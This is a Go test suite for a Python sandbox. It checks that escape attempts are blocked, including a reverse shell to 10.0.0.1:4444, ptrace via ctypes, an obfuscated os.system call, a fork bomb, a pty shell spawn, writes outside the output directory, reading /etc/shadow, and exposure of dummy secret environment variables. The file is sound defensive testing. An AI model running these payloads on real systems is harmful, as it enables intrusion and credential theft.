package sandbox

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// These run generated scripts under a real interpreter to check that the
// sandboxed profile holds up against common escape attempts.

func realPython(t *testing.T) string {
	t.Helper()
	if testing.Short() {
		t.Skip("skipping interpreter tests in short mode")
	}
	path, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("python3 not available")
	}
	return path
}

func newRealRuntime(t *testing.T, environ []string) *Runtime {
	t.Helper()
	python := realPython(t)
	return newTestRuntime(t, func(o *Options) {
		o.PythonBin = python
		if environ != nil {
			o.Environ = func() []string { return environ }
		}
	})
}

func TestEscape_ScanBlocked(t *testing.T) {
	r := newTestRuntime(t, nil)

	attempts := []struct {
		name string
		code string
		want string
	}{
		{
			name: "ctypes ptrace",
			code: "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.ptrace(16, 1, 0, 0)\n",
			want: "ctypes",
		},
		{
			name: "reverse shell",
			code: "import socket, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nsubprocess.call(['/bin/sh', '-i'])\n",
			want: "subprocess",
		},
		{
			name: "dynamic import",
			code: "m = __import__('o' + 's')\nm.system('id')\n",
			want: "__import__",
		},
		{
			name: "fork bomb",
			code: "while True:\n    os.fork()\n",
			want: "os.fork",
		},
		{
			name: "pty spawn",
			code: "import pty\npty.spawn('/bin/sh')\n",
			want: "pty",
		},
	}

	for _, a := range attempts {
		t.Run(a.name, func(t *testing.T) {
			res, err := r.Execute(context.Background(), ExecutionRequest{
				PythonCode:       a.code,
				ExecutionProfile: "sandboxed",
			})
			var serr *ScanError
			if !errors.As(err, &serr) {
				t.Fatalf("err = %v, want *ScanError", err)
			}
			if res != nil {
				t.Errorf("blocked run returned a result: %+v", res)
			}
			if len(serr.Names()) == 0 {
				t.Fatal("no violations reported")
			}
			found := false
			for _, name := range serr.Names() {
				if name == a.want {
					found = true
				}
			}
			if !found {
				t.Errorf("violations = %v, want one matching %q", serr.Names(), a.want)
			}
		})
	}

	if n := countEntries(t, filepath.Join(r.UploadsDir(), runsDirName)); n != 0 {
		t.Errorf("blocked runs created %d run dirs", n)
	}
	assertGateBalanced(t, r)
}

func TestEscape_WriteOutsideOutputDir(t *testing.T) {
	r := newRealRuntime(t, nil)
	target := filepath.Join(t.TempDir(), "escaped.txt")

	res, err := r.Execute(context.Background(), ExecutionRequest{
		PythonCode:       "with open(" + pyQuote(target) + ", 'w') as fh:\n    fh.write('pwned')\n",
		ExecutionProfile: "sandboxed",
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if res.ExitCode == 0 || res.OK {
		t.Errorf("exit=%d ok=%v, want failure", res.ExitCode, res.OK)
	}
	if !strings.Contains(res.Stderr, "write outside output dir") {
		t.Errorf("stderr = %q", res.Stderr)
	}
	if _, err := os.Stat(target); !os.IsNotExist(err) {
		t.Errorf("file outside the output dir was created: %v", err)
	}
}

func TestEscape_ReadSystemFile(t *testing.T) {
	r := newRealRuntime(t, nil)

	res, err := r.Execute(context.Background(), ExecutionRequest{
		PythonCode:       "print(open('/etc/shadow').read())\n",
		ExecutionProfile: "sandboxed",
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if res.ExitCode == 0 {
		t.Error("reading /etc/shadow should fail")
	}
	if !strings.Contains(res.Stderr, "read outside allowed roots") {
		t.Errorf("stderr = %q", res.Stderr)
	}
}

func TestEscape_SecretsNotVisible(t *testing.T) {
	environ := append(os.Environ(),
		"AWS_SECRET_ACCESS_KEY=AKIAEXAMPLE",
		"DATABASE_URL=postgres://u:p@db/x",
		"CHART_TEST_VISIBLE=yes",
	)
	r := newRealRuntime(t, environ)

	res, err := r.Execute(context.Background(), ExecutionRequest{
		PythonCode:       "for k in sorted(os.environ):\n    print(k)\n",
		ExecutionProfile: "sandboxed",
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if res.ExitCode != 0 {
		t.Fatalf("exit=%d stderr=%q", res.ExitCode, res.Stderr)
	}
	for _, name := range []string{"AWS_SECRET_ACCESS_KEY", "DATABASE_URL", "CHART_TEST_VISIBLE"} {
		if strings.Contains(res.Stdout, name) {
			t.Errorf("%s visible to sandboxed code", name)
		}
	}
	if !strings.Contains(res.Stdout, "PATH") {
		t.Errorf("stdout = %q, want PATH to survive", res.Stdout)
	}
}

func TestEscape_InfiniteLoopTimesOut(t *testing.T) {
	r := newRealRuntime(t, nil)

	start := time.Now()
	res, err := r.Execute(context.Background(), ExecutionRequest{
		PythonCode:       "while True:\n    pass\n",
		ExecutionProfile: "sandboxed",
		TimeoutSec:       1,
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if elapsed := time.Since(start); elapsed > 15*time.Second {
		t.Errorf("loop ran for %s", elapsed)
	}
	if !res.TimedOut || res.OK {
		t.Errorf("timed_out=%v ok=%v", res.TimedOut, res.OK)
	}
}

func TestEscape_ValidCodeRuns(t *testing.T) {
	r := newRealRuntime(t, nil)

	res, err := r.Execute(context.Background(), ExecutionRequest{
		PythonCode:       "total = sum(row['v'] for row in INPUT_DATA)\nprint('total', total)\nsave_text('summary', str(total))\n",
		InputData:        []map[string]int{{"v": 2}, {"v": 3}},
		ExecutionProfile: "sandboxed",
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if res.ExitCode != 0 {
		t.Fatalf("exit=%d stderr=%q", res.ExitCode, res.Stderr)
	}
	if !strings.Contains(res.Stdout, "total 5") {
		t.Errorf("stdout = %q", res.Stdout)
	}
	found := false
	for _, a := range res.Artifacts {
		if a.Name == "summary.txt" {
			found = true
		}
	}
	if !found {
		t.Errorf("artifacts = %+v, want summary.txt", res.Artifacts)
	}
	// No image was produced, so the run is not ok even though it exited cleanly.
	if res.OK || res.ImageURL != nil {
		t.Errorf("ok=%v image=%v", res.OK, res.ImageURL)
	}
}

func pyQuote(s string) string {
	return "'" + strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), "'", `\'`) + "'"
}
